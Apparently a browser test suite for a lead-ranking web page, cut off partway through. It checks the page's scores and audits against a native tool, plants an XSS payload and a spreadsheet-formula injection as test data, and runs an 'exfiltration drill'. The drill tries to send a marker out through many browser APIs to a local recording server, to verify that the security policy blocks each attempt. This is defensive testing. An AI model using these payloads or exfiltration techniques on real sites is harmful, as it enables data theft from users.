// Browser tests (and benchmark) of the leadladder page in headless Chromium.
//
//   node tests/browser/run.mjs           # the test suite; exit status 1 if any case fails
//   node tests/browser/run.mjs --bench   # the page's CPU path beside native `leadladder rank` on
//                                        # 1,000 leads, WebGPU/CPU time per lead, gzip bytes
//   node tests/browser/run.mjs --bench=cpu   # the same without the (slow) software-WebGPU run
//   node tests/browser/run.mjs --bench=50k   # 50,000 leads in the page: time, worker memory, export
//   node tests/browser/run.mjs --only='GBK|offline'   # just the cases whose name matches
//
// Environment: LEADLADDER_BIN (the leadladder binary; default $CARGO_TARGET_DIR/debug/leadladder
// or target/debug/leadladder), CHROMIUM (default /usr/bin/chromium), LEADLADDER_REAL_SIZE (a
// folder with a real-size bundle: int8.safetensors, f16.safetensors and leads.csv, made by
// scripts/real-size-fixture.sh; without it the real-size case is skipped; its WebGPU leg runs
// only with LEADLADDER_REAL_SIZE_GPU=1, on LEADLADDER_REAL_SIZE_GPU_LEADS leads, default 2). Writes its files, the
// screenshot included, to target/browser/.

import { execFileSync } from 'node:child_process';
import { createServer } from 'node:http';
import { randomBytes } from 'node:crypto';
import { mkdirSync, readFileSync, writeFileSync, rmSync, existsSync, readdirSync, statSync } from 'node:fs';
import { join, resolve, dirname } from 'node:path';
import { fileURLToPath } from 'node:url';
import { gzipSync } from 'node:zlib';
import { CHROMIUM, launch as launchChromium, recordNetwork } from './chromium.mjs';
import { startServer as serveRepo } from './serve.mjs';
import { TOL, compareRankedCsv, parseCsv, writeCsv } from './csv.mjs';

const HERE = dirname(fileURLToPath(import.meta.url));
const REPO = resolve(HERE, '../..');
const OUT = join(REPO, 'target', 'browser');
const WORK = join(OUT, 'work');
const BIN = process.env.LEADLADDER_BIN || join(process.env.CARGO_TARGET_DIR || join(REPO, 'target'), 'debug', 'leadladder');
const MODEL = join(REPO, 'web', 'models', 'demo.int8.safetensors');
const K_PERCENTS = [1, 5, 10, 20, 30, 50]; // the page's audit columns
const BENCH = process.argv.some((a) => a === '--bench' || a === '--bench=cpu' || a === '--bench=50k');
const BENCH_CPU_ONLY = process.argv.includes('--bench=cpu');
const BENCH_50K = process.argv.includes('--bench=50k');
// `--only=PATTERN` runs just the cases whose name matches PATTERN (a regular expression, e.g.
// `GBK` or `offline|network`) while working on them; the others are reported as skipped.
const ONLY_ARG = (process.argv.find((a) => a.startsWith('--only=')) || '').slice('--only='.length);
const ONLY = ONLY_ARG ? new RegExp(ONLY_ARG) : null;
const XSS_TEXT = '<img src=x onerror="window.__xss=1"><script>window.__xss=2</script>';
const FORMULA_TEXT = '=HYPERLINK("http://example.invalid","click me")';
// A unique string planted in one lead's dialogue: no request, header, body, WebSocket frame or
// server log line may ever carry it.
const MARKER = `LLPRIVACY${randomBytes(6).toString('hex')}`;
// Every file the page, its workers and its service worker may request: GET or HEAD, no query
// string. An allow-list of files, not of origins; each must exist, so the list cannot go stale.
const ALLOWED_FILES = [
  'index.html', 'app.js', 'client.js', 'worker.js', 'sw.js', 'style.css', 'favicon.svg',
  'crm-demo.html', 'crm-demo.css', 'crm-demo.js', 'widget/lead-ladder.js', 'widget/lead-ladder.css',
  'models/demo.int8.safetensors', 'samples/demo-leads.csv',
  'pkg/cpu/leadladder_wasm.js', 'pkg/cpu/leadladder_wasm_bg.wasm',
  'pkg/gpu/leadladder_wasm.js', 'pkg/gpu/leadladder_wasm_bg.wasm',
];
const ALLOWED_PATHS = new Set(['/', ...ALLOWED_FILES.map((f) => `/${f}`)]);
// The scoring worker's policy probe (web/worker.js): a GET of a URL on port 1 of another origin,
// which the page's connect-src refuses and which browsers never connect to where nothing refuses
// it. The one request to another origin the audit lets pass, and only as a bodiless GET.
const POLICY_PROBE_URL = (() => {
  const m = readFileSync(join(REPO, 'web', 'worker.js'), 'utf8').match(/const POLICY_PROBE_URL = '([^']+)'/);
  if (!m || new URL(m[1]).port !== '1') throw new Error('web/worker.js names no POLICY_PROBE_URL on port 1');
  return m[1];
})();
// The address queries the tests themselves open the page with (a navigation, never a fetch).
const NAVIGATION_QUERIES = new Set(['', '?device=cpu', '?device=gpu', '?device=cpu&workers=1', '?device=cpu&workers=2']);

// ------------------------------------------------------------------ small utilities

function log(...args) {
  console.log(...args);
}

function run(args, opts = {}) {
  return execFileSync(BIN, args, { cwd: REPO, encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe'], ...opts });
}

// ------------------------------------------------------------------ fixtures

function makeFixtures() {
  rmSync(WORK, { recursive: true, force: true });
  mkdirSync(WORK, { recursive: true });
  const f = {};
  // 300 synthetic leads; two dialogues replaced by an XSS payload and a spreadsheet formula.
  run(['synth', '--leads', '300', '--seed', '11', '--out', join(WORK, 'synth.csv'), '--spec', join(WORK, 'leads.toml')]);
  const rows = parseCsv(readFileSync(join(WORK, 'synth.csv'), 'utf8'));
  const dlg = rows[0].indexOf('dialogue');
  rows[3][dlg] = `customer: ${XSS_TEXT}\nrep: noted`;
  rows[5][dlg] = FORMULA_TEXT;
  rows[7][dlg] = `customer: my reference is ${MARKER}\nrep: noted`;
  f.xssId = rows[3][0];
  f.formulaId = rows[5][0];
  f.leads = join(WORK, 'leads.csv');
  writeFileSync(f.leads, writeCsv(rows));
  f.spec = join(WORK, 'leads.toml');
  f.count = rows.length - 1;

  // The exfiltration drill's file: long enough that the CPU build scores it with helper workers
  // (web/worker.js starts them from 512 leads), with the marker planted like the 300 leads'.
  run(['synth', '--leads', '600', '--seed', '17', '--out', join(WORK, 'drill-synth.csv'), '--spec', join(WORK, 'drill.toml')]);
  const drillRows = parseCsv(readFileSync(join(WORK, 'drill-synth.csv'), 'utf8'));
  drillRows[7][drillRows[0].indexOf('dialogue')] = `customer: my reference is ${MARKER}\nrep: noted`;
  f.drill = join(WORK, 'drill.csv');
  writeFileSync(f.drill, writeCsv(drillRows));
  f.drillCount = drillRows.length - 1;

  // A short file for the cases that rank on the software WebGPU adapter several times.
  f.small = join(WORK, 'small.csv');
  run(['synth', '--leads', '24', '--seed', '21', '--out', f.small, '--spec', join(WORK, 'small.toml')]);

  // A file long enough to cancel while it ranks.
  f.long = join(WORK, 'long.csv');
  run(['synth', '--leads', '2000', '--seed', '12', '--out', f.long, '--spec', join(WORK, 'long.toml')]);

  // A GBK-encoded Chinese export.
  run(['synth', '--leads', '40', '--seed', '5', '--lang', 'zh', '--out', join(WORK, 'zh-utf8.csv'), '--spec', join(WORK, 'zh.toml')]);
  f.gbk = join(WORK, 'leads-gbk.csv');
  writeFileSync(f.gbk, execFileSync('iconv', ['-f', 'UTF-8', '-t', 'GBK', join(WORK, 'zh-utf8.csv')]));

  // Malformed: an unterminated quote in the header row.
  f.bad = join(WORK, 'broken.csv');
  writeFileSync(f.bad, 'lead_id,created_at,"dialogue\n1,2025-01-01,hello\n');
  // A truncated model bundle.
  f.badBundle = join(WORK, 'truncated.safetensors');
  writeFileSync(f.badBundle, readFileSync(MODEL).subarray(0, 5000));

  // Native reference: rank, then audit the model's score column.
  for (const [name, input] of [['native', f.leads], ['native-gbk', f.gbk]]) {
    // The page explains on demand; the tests open the top lead's reasons, which native explains
    // with --explain 1 (five factors, as the page shows).
    run(['rank', '--model', MODEL, '--input', input, '--out', join(WORK, `${name}-ranked.csv`), '--explain', '1', '--reasons', '5']);
  }
  f.nativeRanked = readFileSync(join(WORK, 'native-ranked.csv'), 'utf8');
  run(['rank', '--model', MODEL, '--input', f.long, '--out', join(WORK, 'native-long-ranked.csv'), '--explain', '0']);
  f.nativeLongRanked = readFileSync(join(WORK, 'native-long-ranked.csv'), 'utf8');
  run(['rank', '--model', MODEL, '--input', f.small, '--out', join(WORK, 'native-small-ranked.csv'), '--explain', '0']);
  f.nativeSmallRanked = readFileSync(join(WORK, 'native-small-ranked.csv'), 'utf8');
  f.nativeGbkRanked = readFileSync(join(WORK, 'native-gbk-ranked.csv'), 'utf8');
  // Drift: the demo model with the distribution of its kind of training data stored (2,000
  // synthetic leads) and a guard made to fire (its test-period report with the model's AUC
  // interval put below recency's); a copy of the 300 leads on a channel never seen and with far
  // more calls than any training lead.
  const fitCsv = join(WORK, 'drift-fit.csv');
  run(['synth', '--leads', '2000', '--seed', '7', '--out', fitCsv, '--spec', join(WORK, 'drift-fit.toml')]);
  const report = JSON.parse(readFileSync(join(REPO, 'web', 'models', 'demo.report.json'), 'utf8'));
  const recency = report.methods.find((m) => /^recency/.test(m.name)).auc;
  const hi = recency.lo - 0.05;
  report.methods[report.methods.length - 1].auc = { value: hi - 0.03, lo: hi - 0.06, hi };
  writeFileSync(join(WORK, 'losing.report.json'), JSON.stringify(report));
  f.driftModel = join(WORK, 'demo-drift.safetensors');
  run(['profile', '--model', MODEL, '--input', fitCsv, '--fit', 'all', '--report', join(WORK, 'losing.report.json'), '--out', f.driftModel]);
  const shifted = parseCsv(readFileSync(join(WORK, 'synth.csv'), 'utf8'));
  for (const name of ['channel', 'calls_so_far']) {
    const c = shifted[0].indexOf(name);
    for (const row of shifted.slice(1)) row[c] = name === 'channel' ? 'tiktok' : '500';
  }
  f.driftShifted = join(WORK, 'drift-shifted.csv');
  writeFileSync(f.driftShifted, writeCsv(shifted));

  const kArgs = K_PERCENTS.flatMap((k) => ['--k', String(k)]);
  f.nativeAudit = JSON.parse(
    run(['audit', '--input', join(WORK, 'native-ranked.csv'), '--ladder', f.spec, '--score', 'score', '--bootstrap', '0', '--json', ...kArgs]),
  );
  return f;
}

// ------------------------------------------------------------------ server and browser

/** `leadladder serve` of the repository ([`startServer`](./serve.mjs)). */
const startServer = () => serveRepo(BIN, REPO);

/**
 * A static host that sends no security headers at all (as many do): web/ at `/`, pkg/ at
 * `/pkg/`. With `stripPolicy`, the pages' `<meta>` policy is removed too; with `policy`, the
 * `<meta>` policy says that instead (an embedding page's own policy).
 */
async function startStaticHost({ stripPolicy = false, policy = null } = {}) {
  const types = { html: 'text/html; charset=utf-8', js: 'text/javascript', css: 'text/css', svg: 'image/svg+xml', wasm: 'application/wasm', csv: 'text/csv' };
  const server = createServer((req, res) => {
    const path = decodeURIComponent(new URL(req.url, 'http://x').pathname);
    const rel = path === '/' ? 'index.html' : path.slice(1);
    const file = rel.startsWith('pkg/') ? join(REPO, rel) : join(REPO, 'web', rel);
    if (rel.includes('..') || !existsSync(file) || !statSync(file).isFile()) {
      res.writeHead(404);
      res.end();
      return;
    }
    let body = readFileSync(file);
    if (stripPolicy && rel.endsWith('.html')) body = body.toString('utf8').replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, '');
    else if (policy && rel.endsWith('.html')) body = body.toString('utf8').replace(/(<meta http-equiv="Content-Security-Policy" content=")[^"]*"/, `$1${policy}"`);
    res.writeHead(200, { 'Content-Type': types[rel.split('.').pop()] || 'application/octet-stream', 'Cache-Control': 'no-store' });
    res.end(body);
  });
  await new Promise((r) => server.listen(0, '127.0.0.1', r));
  const url = `http://127.0.0.1:${server.address().port}/`;
  return { server, url, origin: new URL(url).origin };
}

/** A foreign origin that records everything that reaches it (HTTP requests and WebSocket upgrades). */
async function startSink() {
  const hits = [];
  const server = createServer((req, res) => {
    let body = '';
    req.on('data', (d) => {
      body += d;
    });
    req.on('end', () => {
      hits.push(`${req.method} ${req.url} ${body}`);
      res.writeHead(204, { 'Access-Control-Allow-Origin': '*' });
      res.end();
    });
  });
  server.on('upgrade', (req, socket) => {
    hits.push(`UPGRADE ${req.url}`);
    socket.destroy();
  });
  await new Promise((r) => server.listen(0, '127.0.0.1', r));
  const origin = `http://127.0.0.1:${server.address().port}`;
  return { server, origin, hits };
}

/** Chromium with WebGPU on (the suite's default; `{ webgpu: false }` for a plain one). */
const launch = ({ webgpu = true } = {}) => launchChromium({ webgpu });

/**
 * The network audit: every recorded request must be a GET or HEAD of an allow-listed file of one
 * of `origins`, with no query string (navigations may carry the suite's own address queries),
 * and no URL, header, body or frame may carry MARKER; a WebSocket or WebRTC attempt is a failure
 * in itself. `serverLogs` are the request lines `leadladder serve` printed (what really reached
 * it, whichever API sent it). Returns the problems, one line each.
 */
function auditNetwork(records, serverLogs, origins) {
  const problems = [];
  // The service worker passes the page's navigations on with their URL: the same address query.
  const navigations = new Set(records.filter((r) => r.navigation).map((r) => r.url));
  const carries = (rec) => [rec.url, rec.body ? rec.body.toString('latin1') : '', JSON.stringify(rec.headers || {})].some((t) => t.includes(MARKER));
  for (const rec of records) {
    const what = `${rec.from}: ${rec.method} ${rec.url}`;
    if (carries(rec)) problems.push(`${what} carries the CSV marker`);
    if (rec.kind !== 'request') {
      problems.push(`${what}: a ${rec.kind} attempt`);
      continue;
    }
    if (rec.url === POLICY_PROBE_URL && rec.method === 'GET' && !(rec.body && rec.body.length) && !rec.navigation) continue;
    let url;
    try {
      url = new URL(rec.url);
    } catch {
      problems.push(`${what}: unparsable URL`);
      continue;
    }
    if (url.protocol === 'blob:' || url.protocol === 'data:') {
      // In-browser objects (the worker's bootstrap module); a blob: URL still names its origin.
      if (url.protocol === 'blob:' && !origins.includes(new URL(url.pathname).origin)) problems.push(`${what}: a blob of another origin`);
      continue;
    }
    if (!origins.includes(url.origin)) problems.push(`${what}: another origin`);
    if (rec.method !== 'GET' && rec.method !== 'HEAD') problems.push(`${what}: method ${rec.method}`);
    if (rec.body && rec.body.length) problems.push(`${what}: a request body of ${rec.body.length} bytes`);
    if (!ALLOWED_PATHS.has(url.pathname)) problems.push(`${what}: ${url.pathname} is not a file of the page`);
    const navigation = rec.navigation || (rec.from === 'service worker' && navigations.has(rec.url));
    if (url.search && !(navigation && NAVIGATION_QUERIES.has(url.search))) problems.push(`${what}: a query string`);
  }
  for (const line of serverLogs) {
    const [method, target = ''] = line.split(' ');
    const [path, ...query] = target.split('?');
    const search = query.length ? `?${query.join('?')}` : '';
    if (line.includes(MARKER)) problems.push(`server saw "${line}": carries the CSV marker`);
    if (method !== 'GET' && method !== 'HEAD') problems.push(`server saw "${line}": method ${method}`);
    if (!ALLOWED_PATHS.has(path)) problems.push(`server saw "${line}": ${path} is not a file of the page`);
    if (search && !(path === '/' && NAVIGATION_QUERIES.has(search))) problems.push(`server saw "${line}": a query string`);
  }
  return problems;
}

async function openPage(context, url, consoleLines) {
  const page = await context.newPage();
  page.on('console', (m) => consoleLines.push(`[${m.type()}] ${m.text()}`));
  page.on('pageerror', (e) => consoleLines.push(`[pageerror] ${e.message}`));
  await page.goto(url);
  await page.waitForSelector('body[data-engine]', { timeout: 120_000 });
  return page;
}

async function bannerText(page) {
  return (await page.locator('#banner').isVisible()) ? (await page.locator('#banner-text').textContent()) : null;
}

/** Uploads a CSV, presses Rank and waits for the queue (or for an error in the banner). */
// SwiftShader ranks the 300-lead file in about 3 minutes on an idle two-core machine; the
// generous timeouts below leave room for a loaded one (they bound a hang, they are not a target).
async function uploadAndRank(page, file, timeout = 900_000) {
  await page.evaluate(() => {
    delete document.body.dataset.ranked;
  });
  await page.setInputFiles('#csv-input', file);
  await page.waitForFunction(() => !document.querySelector('#rank-button').disabled, null, { timeout: 60_000 });
  const started = Date.now();
  await page.click('#rank-button');
  await page.waitForFunction(
    () => document.body.dataset.ranked || !document.querySelector('#banner').hidden,
    null,
    { timeout, polling: 100 },
  );
  const seconds = (Date.now() - started) / 1000;
  const banner = await bannerText(page);
  if (banner) throw new Error(`the page showed an error: ${banner}`);
  return seconds;
}

/** Opens the reasons of the queue's top lead (what native `--explain 1` explains). */
async function explainTop(page) {
  await page.click('#queue .queue-row[data-rank="1"] .why');
  await page.waitForFunction(() => document.querySelector('#detail-reasons li, #detail-reasons h4'), null, { timeout: 900_000 });
  const reasons = await page.locator('#detail-reasons li').count();
  if (reasons === 0) throw new Error('the top lead shows no reasons');
}

async function exportFromPage(page) {
  const [download] = await Promise.all([page.waitForEvent('download'), page.click('#export-button')]);
  const path = join(WORK, `export-${Date.now()}.csv`);
  await download.saveAs(path);
  return readFileSync(path, 'utf8');
}

async function deviceFields(page) {
  return page.$$eval('#device-panel dd', (dds) => Object.fromEntries(dds.map((d) => [d.dataset.field, d.textContent])));
}

/** The visible table rows: rank, id, score, p. */
async function visibleRows(page) {
  return page.$$eval('#queue .queue-row', (rows) =>
    rows.map((r) => ({
      rank: Number(r.dataset.rank),
      id: r.querySelector('.cell.id').textContent,
      score: Number(r.querySelector('[data-score]').dataset.score),
      p: Number(r.querySelector('[data-p]').dataset.p),
    })),
  );
}

function checkTableAgainstNative(rows, nativeText) {
  const nat = parseCsv(nativeText);
  const h = nat[0];
  const byId = new Map(nat.slice(1).map((r) => [r[h.indexOf('lead_id')], r]));
  const problems = [];
  if (rows.length < 5) problems.push(`only ${rows.length} rows are rendered`);
  for (const r of rows) {
    const n = byId.get(r.id);
    if (!n) {
      problems.push(`table lead ${r.id} not in native output`);
      continue;
    }
    const ns = Number(n[h.indexOf('score')]);
    const np = Number(n[h.indexOf('p_convert')]);
    if (!(Math.abs(ns - r.score) <= TOL)) problems.push(`lead ${r.id}: score ${r.score} vs native ${ns}`);
    if (!(Math.abs(np - r.p) <= TOL)) problems.push(`lead ${r.id}: p_convert ${r.p} vs native ${np}`);
  }
  return problems;
}

/** The page's audit table against `leadladder audit --score score --json`. */
async function checkAudit(page, nativeAudit) {
  const web = await page.$$eval('table.audit tbody tr', (trs) =>
    trs.map((tr) => ({
      name: tr.dataset.method,
      auc: Number(tr.querySelector('[data-auc]').dataset.auc),
      atK: [...tr.querySelectorAll('[data-k]')].map((td) => ({ k: Number(td.dataset.k), precision: Number(td.dataset.precision), hits: Number(td.dataset.hits) })),
    })),
  );
  const problems = [];
  const natMethods = nativeAudit.methods;
  const norm = (s) => s.toLowerCase();
  const findNative = (name) => {
    const exact = natMethods.find((m) => norm(m.name) === norm(name));
    if (exact) return exact;
    // the model's row: the native audit calls it by its column, "score"
    if (/model|leadladder/i.test(name)) return natMethods.find((m) => /^score\b/i.test(m.name));
    const key = norm(name).split(' ')[0];
    return natMethods.find((m) => norm(m.name).startsWith(key));
  };
  if (web.length < 3) problems.push(`the audit table has ${web.length} rows`);
  for (const w of web) {
    const n = findNative(w.name);
    if (!n) {
      problems.push(`audit method "${w.name}" has no native counterpart (native: ${natMethods.map((m) => m.name).join(', ')})`);
      continue;
    }
    const nAuc = typeof n.auc === 'number' ? n.auc : n.auc.value;
    if (!(Math.abs(nAuc - w.auc) <= TOL)) problems.push(`${w.name}: AUC ${w.auc} vs native ${nAuc}`);
    for (const a of w.atK) {
      const na = n.at_k.find((x) => Math.abs(x.k_percent - a.k) < 1e-9);
      if (!na) {
        problems.push(`${w.name}: native has no K=${a.k}%`);
        continue;
      }
      const np = typeof na.precision === 'number' ? na.precision : na.precision.value;
      if (!(Math.abs(np - a.precision) <= TOL)) problems.push(`${w.name} P@${a.k}%: ${a.precision} vs native ${np}`);
      if (na.hits !== a.hits) problems.push(`${w.name} hits@${a.k}%: ${a.hits} vs native ${na.hits}`);
    }
  }
  return { problems, web };
}

// ------------------------------------------------------------------ exfiltration drill

/**
 * Runs exfiltration attempts inside a page, a worker or the service worker (passed to
 * `evaluate`, so it is self-contained). Each attempt's URL carries its own tag (no tag may be a
 * prefix of another); returns, per attempt, the policy violations the realm reported whose
 * blocked URL carries that tag (whenever they arrived) and any error, and the realm's other
 * violations as `unmatched` on every attempt.
 */
async function exfiltrate({ attempts, same, foreign, marker }) {
  const seen = [];
  const onViolation = (e) => seen.push({ text: `${e.effectiveDirective || e.violatedDirective} ${e.blockedURI}`, uri: String(e.blockedURI || '') });
  globalThis.addEventListener('securitypolicyviolation', onViolation);
  const sleep = (ms) => new Promise((r) => setTimeout(r, ms));
  const tried = [];
  for (const { kind, tag, target } of attempts) {
    const base = target === 'foreign' ? foreign : same;
    const ws = base.replace(/^http/, 'ws');
    let error = null;
    const note = (e) => {
      error = String(e);
    };
    try {
      if (kind === 'fetch GET with a query') await fetch(`${base}/app.js?${tag}`).catch(note);
      else if (kind === 'fetch POST with a body') await fetch(`${base}/${tag}`, { method: 'POST', body: marker, mode: 'no-cors' }).catch(note);
      else if (kind === 'XMLHttpRequest')
        await new Promise((resolve) => {
          const x = new XMLHttpRequest();
          x.onloadend = resolve;
          x.open('POST', `${base}/${tag}`);
          x.send(marker);
        });
      else if (kind === 'sendBeacon') navigator.sendBeacon(`${base}/${tag}`, marker);
      else if (kind === 'EventSource') {
        const es = new EventSource(`${base}/${tag}`);
        await sleep(300);
        es.close();
      } else if (kind === 'WebSocket') {
        const sock = new WebSocket(`${ws}/${tag}`);
        sock.onopen = () => sock.send(marker);
        await sleep(300);
        sock.close();
      } else if (kind === 'image') {
        const img = new Image();
        img.src = `${base}/${tag}.png`;
        await sleep(300);
      } else if (kind === 'dynamic import') await import(`${base}/${tag}.js`).catch(note);
      else if (kind === 'WebRTC') {
        const pc = new RTCPeerConnection({ iceServers: [{ urls: `stun:${new URL(base).host}` }] });
        pc.createDataChannel(tag);
        await pc.setLocalDescription(await pc.createOffer());
        await sleep(300);
        pc.close();
      } else throw new Error(`unknown attempt ${kind}`);
    } catch (e) {
      note(e);
    }
    await sleep(200);
    tried.push({ kind, tag, target, error });
  }
  await sleep(300); // violations reported late still count, each for the attempt it names
  globalThis.removeEventListener('securitypolicyviolation', onViolation);
  const unmatched = seen.filter((v) => !attempts.some((a) => v.uri.includes(a.tag))).map((v) => v.text);
  return tried.map((a) => ({ ...a, violations: seen.filter((v) => v.uri.includes(a.tag)).map((v) => v.text), unmatched }));
}

/** The page's workers started from blob: URLs with the given name (`self.name`). */
async function workersNamed(page, name) {
  const found = [];
  for (const w of page.workers().filter((x) => x.url().startsWith('blob:'))) {
    const n = await w.evaluate(() => self.name).catch(() => null);
    if (n === name) found.push(w);
  }
  return found;
}

/** The page's scoring worker (started from a blob: URL by client.js, named 'leadladder'). */
async function scoringWorker(page) {
  for (let i = 0; i < 100; i++) {
    const [w] = await workersNamed(page, 'leadladder');
    if (w) return w;
    await new Promise((r) => setTimeout(r, 100));
  }
  throw new Error(`no scoring worker; workers: ${page.workers().map((x) => x.url()).join(', ')}`);
}

/** The scoring worker's helper workers (web/worker.js, named 'leadladder-helper'). */
async function helperWorkers(page) {
  return workersNamed(page, 'leadladder-helper');
}

/**
 * On a page served by `leadladder serve` that has ranked a marked CSV long enough for helper
 * workers (on two workers, `?workers=2`, whatever the cores), every kind of exfiltration is
 * tried from the page, the scoring worker, each helper worker and the service worker, towards a
 * recording server on another origin and towards the page's own origin. Each attempt must be
 * blocked by the policy (a violation naming that attempt's own URL, nothing reached the other
 * origin) or fail the network audit. Writes target/browser/exfiltration.txt.
 */
async function exfiltrationDrill(f, consoleLines) {
  const server = await startServer();
  const sink = await startSink();
  const { context, profile } = await launch();
  const records = await recordNetwork(context);
  try {
    const page = await openPage(context, `${server.url}?device=cpu&workers=2`, consoleLines);
    await uploadAndRank(page, f.drill);
    const ranked = Number(await page.evaluate(() => document.body.dataset.ranked));
    assert(ranked === f.drillCount, `ranked ${ranked} of ${f.drillCount} leads`);
    const dev = await deviceFields(page);
    assert(/\b2 workers\b/.test(dev['Measured speed'] || ''), `the drill's file was not scored with a helper worker: ${dev['Measured speed']}`);
    await page.waitForSelector('body[data-offline="ready"]', { timeout: 60_000 });
    const sw = context.serviceWorkers().find((w) => w.url().startsWith(server.origin)) || (await context.waitForEvent('serviceworker'));
    const worker = await scoringWorker(page);
    const helpers = await helperWorkers(page);
    assert(helpers.length >= 1, `no helper worker to try from; workers: ${page.workers().map((x) => x.url()).join(', ')}`);
    const workerKinds = ['fetch GET with a query', 'fetch POST with a body', 'XMLHttpRequest', 'EventSource', 'WebSocket', 'dynamic import'];
    const realms = {
      page: { handle: page, kinds: ['fetch GET with a query', 'fetch POST with a body', 'XMLHttpRequest', 'sendBeacon', 'EventSource', 'WebSocket', 'image', 'dynamic import'] },
      worker: { handle: worker, kinds: workerKinds },
      ...Object.fromEntries(helpers.map((h, i) => [`helper ${i + 1}`, { handle: h, kinds: workerKinds }])),
      'service worker': { handle: sw, kinds: ['fetch GET with a query', 'fetch POST with a body', 'WebSocket'] },
    };
    const results = [];
    let n = 0;
    // Fixed-width tags: none is a prefix of another, so a URL names one attempt only.
    const nextTag = () => `${MARKER}-x${String(n++).padStart(4, '0')}`;
    const unmatched = [];
    for (const [realm, { handle, kinds }] of Object.entries(realms)) {
      const attempts = kinds.flatMap((kind) => ['foreign', 'same'].map((target) => ({ kind, target, tag: nextTag() })));
      const got = await handle.evaluate(exfiltrate, { attempts, same: server.origin, foreign: sink.origin, marker: MARKER });
      results.push(...got.map((a) => ({ realm, ...a })));
      if (got.length && got[0].unmatched.length) unmatched.push(`${realm}: ${got[0].unmatched.join(', ')}`);
    }
    const rtc = await page.evaluate(exfiltrate, { attempts: [{ kind: 'WebRTC', target: 'foreign', tag: nextTag() }], same: server.origin, foreign: sink.origin, marker: MARKER });
    results.push(...rtc.map((a) => ({ realm: 'page', ...a })));
    // A top-level navigation: no policy directive can stop it, so only the audit can catch it.
    const navTag = nextTag();
    await page.evaluate((u) => {
      location.href = u;
    }, `${sink.origin}/${navTag}`);
    await page.waitForURL((u) => u.href.includes(navTag), { timeout: 10_000 }).catch(() => undefined);
    results.push({ realm: 'page', kind: 'top-level navigation', target: 'foreign', tag: navTag, error: null, violations: [] });

    const problems = auditNetwork(records, server.log, [server.origin]);
    const lines = [];
    const failures = [];
    for (const r of results) {
      const reached = sink.hits.filter((h) => h.includes(r.tag));
      const caught = problems.filter((p) => p.includes(r.tag) || (r.kind === 'WebRTC' && /WebRTC/.test(p)));
      let outcome = null;
      if (r.violations.length && !reached.length) outcome = `blocked by the policy (${r.violations[0]})`;
      else if (caught.length) outcome = `caught by the audit (${caught[0]})`;
      lines.push(`${r.realm.padEnd(14)} ${r.kind.padEnd(22)} ${r.target.padEnd(7)} ${r.tag.slice(MARKER.length)} ${outcome || 'NOT CAUGHT'}${reached.length ? ' [reached the other origin]' : ''}`);
      if (!outcome) failures.push(`${r.realm} ${r.kind} (${r.target}): neither blocked nor caught; error ${r.error}; reached ${reached.length}`);
      // Towards another origin, the policy alone must stop every API it governs: a violation
      // naming this attempt's URL, and nothing reached.
      if (r.target === 'foreign' && r.kind !== 'top-level navigation' && r.kind !== 'WebRTC') {
        if (reached.length) failures.push(`${r.realm} ${r.kind}: reached the other origin`);
        if (!r.violations.length) failures.push(`${r.realm} ${r.kind} (foreign): no policy violation names its URL (${r.tag.slice(MARKER.length)})`);
      }
    }
    // Violations that name no attempt (none expected: the page's own code requests nothing the
    // policy refuses, and the worker's policy probe runs before the drill) are listed, not counted.
    if (unmatched.length) lines.push('', 'violations naming no attempt:', ...unmatched);
    const realmsTried = new Set(results.map((r) => r.realm));
    for (const realm of Object.keys(realms)) assert(realmsTried.has(realm), `no attempt ran in the ${realm}`);
    writeFileSync(join(OUT, 'exfiltration.txt'), lines.join('\n') + '\n');
    if (failures.length) throw new Error(`exfiltration drill:\n    ${failures.join('\n    ')}`);
  } finally {
    await context.close();
    rmSync(profile, { recursive: true, force: true });
    server.child.kill();
    sink.server.close();
  }
}

// ------------------------------------------------------------------ model loading

/** The JSON header of a safetensors file and where its tensor data starts. */
function safetensorsHeader(bytes) {
  const n = Number(bytes.readBigUInt64LE(0));
  return { header: JSON.parse(bytes.subarray(8, 8 + n).toString('utf8')), dataStart: 8 + n };
}

/** The bundle's model config (its `config` metadata). */
function bundleConfig(path) {
  return JSON.parse(safetensorsHeader(readFileSync(path)).header.__metadata__.config);
}

/** The name of the Cache API cache the scoring worker keeps models in (read from worker.js). */
function modelCacheName() {
  const m = readFileSync(join(REPO, 'web', 'worker.js'), 'utf8').match(/const MODEL_CACHE = '([^']+)'/);
  if (!m) throw new Error('web/worker.js names no MODEL_CACHE');
  return m[1];
}

/** The demo bundle with one byte flipped inside the last tensor's data (near the end of the file). */
function corruptedModel() {
  const bytes = Buffer.from(readFileSync(MODEL));
  const { header, dataStart } = safetensorsHeader(bytes);
  const end = Math.max(...Object.entries(header).filter(([k]) => k !== '__metadata__').map(([, t]) => t.data_offsets[1]));
  const at = dataStart + end - 17;
  assert(at > dataStart && at < bytes.length, `no tensor data to corrupt (${at} of ${bytes.length})`);
  bytes[at] ^= 0x5a;
  return bytes;
}

/**
 * The largest GPU buffers a forward pass of the bundle needs (f32 bytes), as
 * crates/bundle/src/config.rs counts them (`gpu_bytes_needed_without_embedding` for a batch of
 * 16, the batch of crates/wasm): the embedding table, and the largest other buffer.
 */
function gpuBuffers(config) {
  const batch = 16;
  const t = config.max_tokens;
  const attention = batch * config.num_attention_heads * t * t * 4;
  const mlp = batch * t * config.intermediate_size * 4;
  const matrix = config.intermediate_size * config.hidden_size * 4;
  return { embedding: config.vocab_size * config.hidden_size * 4, other: Math.max(attention, mlp, matrix) };
}

/** Collects every text #model-status shows (the progress lines flash by) in window.__modelStatus. */
async function watchModelStatus(context) {
  await context.addInitScript(() => {
    window.__modelStatus = [];
    document.addEventListener('DOMContentLoaded', () => {
      const node = document.querySelector('#model-status');
      if (!node) return;
      new MutationObserver(() => window.__modelStatus.push(node.textContent)).observe(node, { childList: true, characterData: true, subtree: true });
    });
  });
}

async function modelState(page) {
  return page.evaluate(() => ({
    source: document.body.dataset.modelSource || '',
    note: document.querySelector('#model-note').hidden ? '' : document.querySelector('#model-note').textContent,
    status: document.querySelector('#model-status').textContent,
    seen: window.__modelStatus || [],
  }));
}

/** Waits until the page has loaded a model (or shows an error). */
async function waitForModel(page, timeout = 120_000) {
  await page.waitForFunction(() => document.body.dataset.modelReady || !document.querySelector('#banner').hidden, null, { timeout });
  const banner = await bannerText(page);
  if (banner) throw new Error(`the page showed an error: ${banner}`);
}

function assert(cond, message) {
  if (!cond) throw new Error(message);
}

/** Merges `value` under `key` into target/browser/bench.json (the benchmark's output file). */
function recordBench(key, value) {
  const path = join(OUT, 'bench.json');
  let all = {};
  try {
